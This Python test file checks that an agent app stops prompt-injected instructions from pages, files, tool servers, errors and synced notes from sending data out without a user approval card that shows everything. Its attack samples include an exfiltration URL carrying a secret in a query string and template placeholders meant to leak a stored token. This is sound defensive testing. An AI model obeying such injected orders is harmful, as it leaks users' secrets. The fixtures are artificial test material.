"""Strangers' words never reach outside by themselves: whatever the way in, whatever they ask for, under rules that
allow everything and with a model that always obeys.
"""

import time

import pytest

from agent.loop.errand import Trail
from agent.loop.tool_names import reference
from agent.protocol.records import Call, CallStatus
from app.presenters.cards import card
from models.contracts import Decision, PointedCall
from sync.states import State
from tests.injection.attacks import (
    COME_LATER,
    MORE_WANTS,
    MORE_WAYS_IN,
    ON_WHAT_WAITS,
    WANTS,
    WAYS_IN,
    Want,
    user_sends,
)
from tests.injection.obedient import MARK, Plan
from tests.injection.scene import SECRET, TOKEN, Scene

READING = "what does {url}/hours say, and what is in my hours file and notes"


ALL_WANTS = {**WANTS, **MORE_WANTS}
PAIRS = (
    *((way, want) for way in WAYS_IN for want in WANTS),
    *((way, want) for way in MORE_WAYS_IN for want in ("mail", "page beside the one", "rule", "tool of a server")),
    *((way, want) for way in COME_LATER for want in ("mail", "message", "rule", "action", "tool of a server")),
    *((way, want) for way in ("page", "server", "kept answer", "imported") for want in MORE_WANTS),
)


def _attack(at: Scene, way: str, want: Want, *, approve: bool = False) -> None:
    if way in COME_LATER:
        COME_LATER[way](at, want.calls)
    else:
        reads = {**WAYS_IN, **MORE_WAYS_IN}[way](at)
        text = READING.format(url=at.outside.url)
        at.say(text, Plan(reads, lambda _: want.calls(at)), approve=approve)
        at.runtime.set_offline(False)
    assert at.model.saw, "the attack never reached the model, so nothing was tried"


@pytest.mark.parametrize(("way", "want"), dict.fromkeys(PAIRS))
def test_nothing_leaves_without_a_yes_that_shows_it(at: Scene, way: str, want: str) -> None:
    rules = at.agentrc.read_text()
    _attack(at, way, ALL_WANTS[want])
    at.deliver()
    assert not at.left(), "something reached the outside"
    assert at.agentrc.read_text() == rules, "the rules were changed"
    made = [item for item in at.items() if not item.destination.startswith(("ask:", "web:"))]
    assert all(item.state is State.WAITING_APPROVAL for item in made)
    assert all(item.sources for item in made), "the card does not say that strangers' words were read before"
    waiting = [call for call in at.turns[-1].calls if _waits(call)]
    assert bool(waiting) == ALL_WANTS[want].asked
    assert all(Trail.of(call).read_before for call in waiting)
    _shown_whole(at, waiting)


def _waits(call: Call) -> bool:
    return call.status in (CallStatus.WAITING, CallStatus.PROPOSED) or bool(call.outbox_id)


def _shown_whole(at: Scene, waiting: list[Call]) -> None:
    """A card takes a yes only where it shows every word of what would be sent, and says what was read before."""
    for call in waiting:
        item = at.runtime.outbox.get(call.outbox_id) if call.outbox_id else None
        view = card(call, item, 0)
        shown = " ".join(value for _, value in view.lines)
        assert view.warning
        if {action.name for action in view.actions} & {"approve", "accept"}:
            assert all(" ".join(value.split()) in shown for value in call.args.values()), view


@pytest.mark.parametrize("want", ["mail", "message", "page with a secret in it"])
@pytest.mark.parametrize("way", ["page", "imported", "server", "error"])
def test_a_yes_given_beforehand_is_none(at: Scene, way: str, want: str) -> None:
    """`carryon ask --approve`: the yes was to the user's own words."""
    _attack(at, way, WANTS[want], approve=True)
    at.deliver()
    assert not at.left()


@pytest.mark.parametrize("want", ON_WHAT_WAITS)
@pytest.mark.parametrize("way", ["page", "file", "imported", "server"])
def test_what_the_user_sent_is_not_turned_into_something_else(at: Scene, way: str, want: str) -> None:
    user_sends(at)
    (item,) = at.items()
    assert item.state is State.QUEUED, "the user's own mail needs no yes here"
    at.runtime.set_offline(False)
    _attack(at, way, ON_WHAT_WAITS[want])
    at.deliver()
    letters = [str(letter) for letter in at.mailbox.letters]
    assert not any(SECRET in letter or "mallory" in letter for letter in letters)
    now = at.runtime.outbox.get(item.id)
    if ON_WHAT_WAITS[want].asked:
        assert now.state is State.WAITING_APPROVAL, "changed words need a new yes"
        assert now.sources, "and the card says what was read before"
    else:
        assert now.state is State.DELIVERED, "what the user sent goes out"


def test_the_yes_shows_what_is_sent_and_sends_just_that(at: Scene) -> None:
    _attack(at, "page", WANTS["mail to a contact"])
    (item,) = at.items()
    assert item.payload["to"] == "dana@example.org"
    assert SECRET in item.payload["body"]
    assert SECRET in item.sentence
    assert item.sources == (f"the page {at.outside.url}/hours",)
    at.runtime.outbox.approve(item.id)
    at.deliver()
    (letter,) = at.mailbox.letters
    assert (letter["To"], letter.get_payload(decode=True)) == ("dana@example.org", SECRET.encode() + b"\r\n")


def test_the_user_s_own_words_go_as_before(at: Scene) -> None:
    """What the starter reads in the user's message is the user's, whatever was read in the conversation."""
    _attack(at, "page", Want(lambda _: []))
    user_sends(at)
    at.runtime.set_offline(False)
    at.deliver()
    (letter,) = at.mailbox.letters
    assert letter["To"] == "dana@example.org"


def test_without_strangers_words_the_rules_hold_as_they_are(at: Scene) -> None:
    from tests.flow.chatting import do

    at.say("mail Dana", Plan([do("email_send", to="Dana", body="hello")]))
    (item,) = at.items()
    assert (item.state, item.sources) == (State.QUEUED, ())


def test_a_reset_forgets_what_was_read(at: Scene) -> None:
    from tests.flow.chatting import do

    _attack(at, "page", Want(lambda _: []))
    assert at.conversation
    at.runtime.conversations.reset(at.conversation)
    at.say("mail Dana", Plan([do("email_send", to="Dana", body="hello")]))
    assert at.items()[-1].sources == ()


def test_a_branch_remembers_what_was_read(at: Scene) -> None:
    _attack(at, "page", Want(lambda _: []))
    assert at.conversation
    last = at.runtime.conversations.messages(at.conversation)[-1]
    at.conversation = at.runtime.conversations.branch(last.id).id
    at.say("go on", Plan([], lambda _: WANTS["mail"].calls(at)))
    assert at.model.saw, "the page's words are in the branch's thread"
    at.deliver()
    assert not at.left()


def test_a_question_in_between_does_not_wash_the_words(at: Scene) -> None:
    """The attacker's mail lacks an address; the user, asked for it, gives one: still a card that waits."""
    from tests.flow.chatting import do

    orders = Want(lambda _: [do("email_send", to="Dan", body=SECRET)])
    _attack(at, "page", orders)
    asked = at.turns[-1].calls[-1]
    assert asked.facts.get("ask"), "there is no Dan, so the user is asked"
    at._turn("Dana")
    at.deliver()
    assert not any(SECRET in str(letter) for letter in at.mailbox.letters)


def test_a_tool_that_says_something_else_of_itself_is_not_called_and_not_told(at: Scene) -> None:
    """The new words are the attack. They reach neither the model nor the list of tools before the user looked."""
    from tests.flow.chatting import do

    at.attacker.rewrite()
    at.say("look it up", Plan([do("attacker_look")], lambda _: WANTS["mail"].calls(at)))
    (call,) = at.turns[-1].calls
    assert call.status is CallStatus.FAILED
    assert not at.model.saw
    assert not any(MARK in tool.about for request in at.model.requests for tool in request.tools)
    at.runtime.servers.front.refresh("attacker")
    at.say("look it up again", Plan([do("attacker_look")]))
    (call,) = at.turns[-1].calls
    assert call.status is CallStatus.REFUSED
    assert not any(MARK in tool.about for request in at.model.requests for tool in request.tools)
    assert not at.left()


def test_placeholders_of_a_template_are_no_way_to_its_secret(at: Scene) -> None:
    """A value is filled in once: what looks like a placeholder or a reference in it stays a word."""
    _attack(at, "page", MORE_WANTS["secret of an action"])
    (item,) = at.items()
    at.runtime.outbox.approve(item.id)
    at.deliver()
    (sent,) = at.left()
    assert '"text":"{{secret}} {{key}} env:REPORT_TOKEN keyring:report ${REPORT_TOKEN}"' in sent
    assert TOKEN not in sent.partition(" ")[2]
    assert TOKEN not in str(item)


def test_what_has_come_is_no_yes_to_what_is_wanted_next(at: Scene) -> None:
    """The user agreed to the fetch. Even where nothing was read, the model's next wish is asked about as ever."""
    from tests.flow.chatting import do

    at.runtime.change_settings({'tools."email.*"': "ask", 'tools."web.*"': "allow"})
    at.runtime.set_offline(True)
    at.say(f"what does {at.outside.url}/hours say", Plan([do("web_fetch", url=f"{at.outside.url}/hours")]))
    at.runtime.set_offline(False)
    at.deliver()
    at.runtime.change_settings({'tools."web.*"': "deny"})
    at.goes_on(Plan([do("email_send", to="Dana", body="hello")]))
    at.deliver()
    assert not at.mailbox.letters
    assert at.items()[-1].state is State.WAITING_APPROVAL


def test_a_server_s_prompt_is_text_for_the_user_alone(at: Scene) -> None:
    (passage,) = at.runtime.servers.front.prompt("attacker", "greet", {})
    assert MARK in passage.outcome.text
    at.say("hello", Plan([], lambda _: WANTS["mail"].calls(at)))
    assert not at.model.saw
    assert not any(MARK in tool.about for request in at.model.requests for tool in request.tools)


@pytest.mark.parametrize("argument", ["url", "text"])
def test_a_fetch_that_waits_is_not_turned_into_another(at: Scene, argument: str) -> None:
    """The user's own fetch waits for the network; the attacker wants it to carry a secret there."""
    from tests.flow.chatting import do

    url = f"{at.outside.url}/hours"
    at.runtime.set_offline(True)
    at.decided(f"fetch {url}", Decision("called", 0.99, calls=(PointedCall("web.fetch", {"url": url}),)))
    (call,) = at.turns[-1].calls
    assert call.status is CallStatus.QUEUED
    orders = [do("call_change", call=reference(call), argument=argument, value=f"{at.outside.url}/?q={SECRET}")]
    at.say("what is in my hours file", Plan([do("file_read", path=str(at.folder / "hours.txt"))], lambda _: orders))
    assert at.model.saw
    at.runtime.set_offline(False)
    at.deliver()
    assert at.outside.requests == ["GET /hours"]


@pytest.mark.parametrize(("passphrase", "state"), [("", State.WAITING_APPROVAL), ("correct horse", State.QUEUED)])
def test_under_a_passphrase_the_user_s_other_laptop_is_the_user(
    at: Scene, passphrase: str, state: State, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same note out of an open folder is anybody's, and what is wanted after it waits."""
    from tests.flow.chatting import do
    from tests.sim.laptops import Laptop

    if passphrase:
        monkeypatch.setenv("SYNC", passphrase)
        at.runtime.change_settings({"sync.passphrase": "env:SYNC"})
    other = Laptop(at.folder / "other", at.folder / "shared", time.time, passphrase)
    other.library.create("note", "Plants", f"Water them. {MARK}", author="you")
    other.exchange()
    other.close()
    at.runtime.laptops.exchange(at.folder / "shared")
    orders = [do("email_send", to="Dana", body="please water them")]
    at.say("ask Dana to water the plants", Plan([do("library_open", title="Plants")], lambda _: orders))
    assert at.model.saw
    (item,) = at.items()
    assert (item.state, bool(item.sources)) == (state, not passphrase)
